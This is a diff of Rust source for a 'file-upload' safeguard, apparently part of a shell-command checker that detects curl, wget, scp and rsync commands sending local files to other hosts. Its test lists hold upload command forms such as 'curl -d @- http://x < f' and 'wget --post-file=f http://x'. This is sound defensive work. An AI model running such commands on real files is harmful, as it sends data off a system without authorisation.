@@ -2,10 +2,11 @@
 
 use pinfold_shell::{RedirectKind, Word};
 
-use super::arguments::{Argument, Valued, known, program_name, read};
 use super::hosts::{host_of, is_this_machine};
 use super::{Command, Safeguard, Watch};
-use crate::{Invocation, Severity};
+use crate::Severity;
+use crate::program::{Arg, Does, Scanned, find_or_unlisted, scan_everywhere};
+use crate::words::{known_start, program_name};
 
 pub(super) const SAFEGUARD: Safeguard = Safeguard {
     id: "file-upload",
@@ -26,6 +27,7 @@ pub(super) const SAFEGUARD: Safeguard = Safeguard {
         "curl --variable x@f --expand-data '{{x}}' http://x",
         "curl --data-b @f http://x",
         "curl -d @- http://x < f",
+        "curl --head\"$x\" @f http://x",
         "cat f | curl --data-binary @- http://x",
         "wget --post-file=f http://x",
         "wget --body-file f --method=PUT http://x",
@@ -37,6 +39,7 @@ pub(super) const SAFEGUARD: Safeguard = Safeguard {
         "curl -O http://x/f",
         "curl -o file.txt http://example.com",
         "curl -d a=b http://x",
+        "curl --data x@f http://x",
         "curl -d '{\"mail\":\"a@b\"}' http://x",
         "curl --data-raw @f http://x",
         "curl --url-query q=a@b http://x",
@@ -59,75 +62,26 @@ pub(super) const SAFEGUARD: Safeguard = Safeguard {
 fn hits(command: &Command<'_>) -> bool {
     command.readings.iter().any(|reading| {
         let Some(name) = reading.words.first().and_then(program_name) else { return false };
+        let scanned = || scan_everywhere(find_or_unlisted(name), reading.args());
         match name {
-            "curl" => sends_by_curl(command, reading) && leads_away(reading.args()),
-            "wget" | "wget2" => sends_by_wget(reading.args()) && leads_away(reading.args()),
-            "scp" => copies_away(reading.args(), Valued { short: "cDFiJloPSX", long: &[] }),
-            "rsync" => copies_away(
-                reading.args(),
-                Valued { short: "efBTM@", long: &["rsh", "exclude", "include", "filter"] },
-            ),
+            "curl" => sends_by_curl(command, &scanned()) && leads_away(reading.args()),
+            "wget" | "wget2" => sends_by_wget(&scanned()) && leads_away(reading.args()),
+            "scp" | "rsync" => copies_away(&scanned()),
             _ => false,
         }
     })
 }
 
-/// Options of curl that take a value, so that letters in a value are not read as options.
-const CURL: Valued = Valued {
-    short: "AbcCdDeEFhHKmoPQrtTuUwxXyYz",
-    long: &[
-        "upload-file",
-        "data",
-        "data-ascii",
-        "data-binary",
-        "data-urlencode",
-        "data-raw",
-        "json",
-        "form",
-        "form-string",
-        "url-query",
-        "variable",
-        "header",
-        "proxy-header",
-    ],
-};
-
-/// Long options of curl whose value is `@file` or data, `name@file` or data, a field of a form.
-const DATA: &[&str] = &["data", "data-ascii", "data-binary", "json", "header", "proxy-header"];
-const ENCODED: &[&str] = &["data-urlencode", "url-query", "variable"];
-const FORM: &[&str] = &["form"];
-
-/// Returns whether a long option is one of these, or may be cut short from one. Data as it stands is none of them.
-fn is_one(name: &str, of: &[&str]) -> bool {
-    let short = |full: &&str| name.len() > 3 && full.starts_with(name);
-    name != "data-raw" && name != "form-string" && (of.contains(&name) || of.iter().any(short))
-}
-
-fn sends_by_curl(command: &Command<'_>, reading: &Invocation) -> bool {
-    // Long options may be cut short, and their value is the next word all the same.
-    let cut_short = reading.args().windows(2).any(|pair| match pair {
-        [option, value] => {
-            known(option).strip_prefix("--").is_some_and(|name| sends(command, name, known(value)))
+fn sends_by_curl(command: &Command<'_>, scanned: &Scanned<'_>) -> bool {
+    scanned.with_values().any(|(arg, value)| {
+        let (Arg::Option { known, name, .. }, Some(value)) = (arg, value) else { return false };
+        match known.map(|known| known.does) {
+            Some(Does::AtFile) | None => is_file(command, value),
+            Some(Does::Encoded) => value.split('=').next().is_some_and(|name| name.contains('@')),
+            Some(Does::FormFile) => value.contains("=@") || value.contains("=<"),
+            Some(_) => arg.is_letter("T") || name.len() > 5 && arg.is_long("upload-file"),
         }
-        _ => false,
-    });
-    cut_short
-        || read(reading.args(), CURL).any(|argument| match argument {
-            Argument::Short('T', _) => true,
-            Argument::Short('d' | 'H', Some(data)) => is_file(command, data),
-            Argument::Short('F', Some(form)) => form.contains("=@") || form.contains("=<"),
-            Argument::Long(name, Some(value)) => {
-                is_one(name, &["upload-file"]) || sends(command, name, value)
-            }
-            Argument::Short(..) | Argument::Long(..) | Argument::Operand(_) => false,
-        })
-}
-
-/// Returns whether a long option of curl with this value sends a file.
-fn sends(command: &Command<'_>, name: &str, value: &str) -> bool {
-    is_one(name, DATA) && is_file(command, value)
-        || is_one(name, ENCODED) && value.split('=').next().is_some_and(|name| name.contains('@'))
-        || is_one(name, FORM) && (value.contains("=@") || value.contains("=<"))
+    })
 }
 
 /// Returns whether data for curl is a file. `@-` is what comes in; text that stands in the line is no file.
@@ -143,14 +97,17 @@ fn is_file(command: &Command<'_>, data: &str) -> bool {
     }
 }
 
-fn sends_by_wget(args: &[Word]) -> bool {
-    args.iter().any(|word| known(word).starts_with("--post-f") || known(word).starts_with("--body-f"))
+fn sends_by_wget(scanned: &Scanned<'_>) -> bool {
+    scanned
+        .args
+        .iter()
+        .any(|arg| arg.long().is_some_and(|name| name.starts_with("post-f") || name.starts_with("body-f")))
 }
 
 /// Returns whether any URL is on another machine, or none is known.
 fn leads_away(args: &[Word]) -> bool {
     let mut here = false;
-    for text in args.iter().map(known) {
+    for text in args.iter().map(known_start) {
         let host = host_of(text);
         if is_this_machine(host) {
             here = true;
@@ -162,13 +119,8 @@ fn leads_away(args: &[Word]) -> bool {
 }
 
 /// Returns whether the last operand is on another machine and one in front of it is here.
-fn copies_away(args: &[Word], valued: Valued) -> bool {
-    let all: Vec<_> = read(args, valued)
-        .filter_map(|argument| match argument {
-            Argument::Operand(word) => Some(known(word)),
-            Argument::Short(..) | Argument::Long(..) => None,
-        })
-        .collect();
+fn copies_away(scanned: &Scanned<'_>) -> bool {
+    let all: Vec<_> = scanned.operands().map(known_start).collect();
     match all.split_last() {
         Some((target, sources)) => is_remote(target) && sources.iter().any(|source| !is_remote(source)),
         None => false,
